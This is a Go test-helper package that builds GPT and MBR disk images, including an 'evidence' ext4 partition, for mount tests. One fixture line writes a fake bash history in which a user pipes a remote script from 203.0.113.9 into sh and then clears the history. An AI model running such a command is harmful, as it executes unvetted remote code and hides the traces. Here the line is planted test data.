// Package mounttest builds the disks the mount tests serve: a GPT disk
// with an ext4 and a FAT partition made by the real tools (sfdisk,
// mkfs.ext4 -d, mkfs.vfat and mtools), and an MBR disk with logical
// partitions. A missing tool fails the test under CI=true.
package mounttest

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ebsimager/ebsimager/internal/testenv"
)

// The GPT disk's shape: 1 GiB (the size of the smallest EBS volume, so
// a snapshot of it reads back the same), p1 ext4 of 96 MiB at 1 MiB,
// p2 FAT of 32 MiB right after.
const (
	DiskSize = 1 << 30
	Ext4Off  = 1 << 20
	Ext4Len  = 96 << 20
	FATOff   = Ext4Off + Ext4Len
	FATLen   = 32 << 20
	// FillerLen is the size of /filler.bin on the ext4 partition: data
	// nobody reads in the tests, so a live mount can be seen to fetch a
	// fraction of the allocated blocks.
	FillerLen = 48 << 20
)

// Disk is a built GPT disk.
type Disk struct {
	Path string
	// Ext4 and FAT are the files put in each file system, by path, with
	// their contents.
	Ext4, FAT map[string][]byte
}

// RequireFUSE fails the test under CI=true, and skips it elsewhere, when
// FUSE cannot be used here: no /dev/fuse or no fusermount3.
func RequireFUSE(t testing.TB) {
	t.Helper()
	if _, err := os.Stat("/dev/fuse"); err != nil {
		if testenv.CI() {
			t.Fatalf("FUSE is required under CI=true: %v", err)
		}
		t.Skipf("no FUSE: %v", err)
	}
	testenv.RequireTool(t, "fusermount3")
}

// Build makes the GPT disk in a temporary directory.
func Build(t testing.TB) Disk {
	t.Helper()
	testenv.RequireTool(t, "sfdisk", "mkfs.ext4", "mkfs.vfat", "mmd", "mcopy")
	dir := t.TempDir()
	rng := rand.New(rand.NewPCG(13, 13))
	d := Disk{Path: filepath.Join(dir, "disk.raw"), Ext4: map[string][]byte{}, FAT: map[string][]byte{}}

	var log strings.Builder
	for i := range 4000 {
		fmt.Fprintf(&log, "Dec  5 12:%02d:%02d web sshd[%d]: Accepted publickey for alice from 203.0.113.%d port %d\n", i/60%60, i%60, 1000+i, i%250, 40000+i)
	}
	filler := make([]byte, FillerLen)
	for i := 0; i < len(filler); i += 8 {
		binary.LittleEndian.PutUint64(filler[i:], rng.Uint64())
	}
	d.Ext4["/etc/passwd"] = []byte("root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
	d.Ext4["/etc/hostname"] = []byte("web\n")
	d.Ext4["/var/log/auth.log"] = []byte(log.String())
	d.Ext4["/home/alice/.bash_history"] = []byte("curl -s http://203.0.113.9/x | sh\nhistory -c\n")
	d.Ext4["/filler.bin"] = filler
	src := filepath.Join(dir, "ext4")
	for name, data := range d.Ext4 {
		p := filepath.Join(src, name)
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, data, 0o644))
	}
	must(t, os.Symlink("/usr/share/zoneinfo/UTC", filepath.Join(src, "etc/localtime")))
	ext4 := filepath.Join(dir, "ext4.img")
	must(t, os.WriteFile(ext4, nil, 0o600))
	must(t, os.Truncate(ext4, Ext4Len))
	run(t, nil, "mkfs.ext4", "-q", "-F", "-b", "4096", "-L", "evidence-ext4", "-U", "6b1e4c3a-0d6f-4d0e-9a53-13131313f001",
		"-E", "root_owner=0:0", "-d", src, ext4)

	d.FAT["/EFI/BOOT/BOOTX64.EFI"] = bytes.Repeat([]byte("MZ\x90\x00efi loader "), 5000)
	d.FAT["/README.TXT"] = []byte("EFI system partition of the mount test disk\r\n")
	fat := filepath.Join(dir, "fat.img")
	must(t, os.WriteFile(fat, nil, 0o600))
	must(t, os.Truncate(fat, FATLen))
	run(t, nil, "mkfs.vfat", "-n", "EFI", "-i", "13131313", fat)
	mtools := []string{"MTOOLS_SKIP_CHECK=1"}
	run(t, mtools, "mmd", "-i", fat, "::/EFI", "::/EFI/BOOT")
	for name, data := range d.FAT {
		p := filepath.Join(dir, "fatsrc", filepath.Base(name))
		must(t, os.MkdirAll(filepath.Dir(p), 0o755))
		must(t, os.WriteFile(p, data, 0o644))
		run(t, mtools, "mcopy", "-i", fat, p, "::"+name)
	}

	must(t, os.WriteFile(d.Path, nil, 0o600))
	must(t, os.Truncate(d.Path, DiskSize))
	table := fmt.Sprintf("label: gpt\nlabel-id: 13131313-0000-4000-8000-000000000013\nunit: sectors\n"+
		"start=%d, size=%d, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name=evidence-ext4\n"+
		"start=%d, size=%d, type=C12A7328-F81F-11D2-BA4B-00A0C93EC93B, name=EFI\n",
		Ext4Off/512, Ext4Len/512, FATOff/512, FATLen/512)
	sfdisk := exec.Command("sfdisk", "-q", "--no-reread", "--no-tell-kernel", d.Path)
	sfdisk.Stdin = strings.NewReader(table)
	if out, err := sfdisk.CombinedOutput(); err != nil {
		t.Fatalf("sfdisk: %v\n%s", err, out)
	}
	place(t, d.Path, ext4, Ext4Off)
	place(t, d.Path, fat, FATOff)
	return d
}

// BuildMBR makes a 64 MiB MBR disk with two primary partitions (1, 2), an
// extended one (3) and two logical ones in it (5, 6), no file systems.
func BuildMBR(t testing.TB) string {
	t.Helper()
	testenv.RequireTool(t, "sfdisk")
	path := filepath.Join(t.TempDir(), "mbr.raw")
	must(t, os.WriteFile(path, nil, 0o600))
	must(t, os.Truncate(path, 64<<20))
	sfdisk := exec.Command("sfdisk", "-q", "--no-reread", "--no-tell-kernel", path)
	sfdisk.Stdin = strings.NewReader("label: dos\nunit: sectors\n" +
		"start=2048, size=8192, type=83\nstart=10240, size=8192, type=7\n" +
		"start=18432, size=40960, type=5\nstart=20480, size=8192, type=83\nstart=30720, size=8192, type=b\n")
	if out, err := sfdisk.CombinedOutput(); err != nil {
		t.Fatalf("sfdisk: %v\n%s", err, out)
	}
	return path
}

// place writes the image at path into disk at off, leaving its all-zero
// 64 KiB pieces holes so the disk stays sparse.
func place(t testing.TB, disk, path string, off int64) {
	t.Helper()
	src, err := os.Open(path)
	must(t, err)
	defer src.Close()
	dst, err := os.OpenFile(disk, os.O_WRONLY, 0)
	must(t, err)
	buf, zero := make([]byte, 64<<10), make([]byte, 64<<10)
	for pos := int64(0); ; pos += int64(len(buf)) {
		n, err := io.ReadFull(src, buf)
		if n > 0 && !bytes.Equal(buf[:n], zero[:n]) {
			if _, werr := dst.WriteAt(buf[:n], off+pos); werr != nil {
				t.Fatal(werr)
			}
		}
		if err == io.EOF || err == io.ErrUnexpectedEOF {
			break
		}
		must(t, err)
	}
	must(t, dst.Close())
}

func run(t testing.TB, env []string, name string, args ...string) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Env = append(os.Environ(), env...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
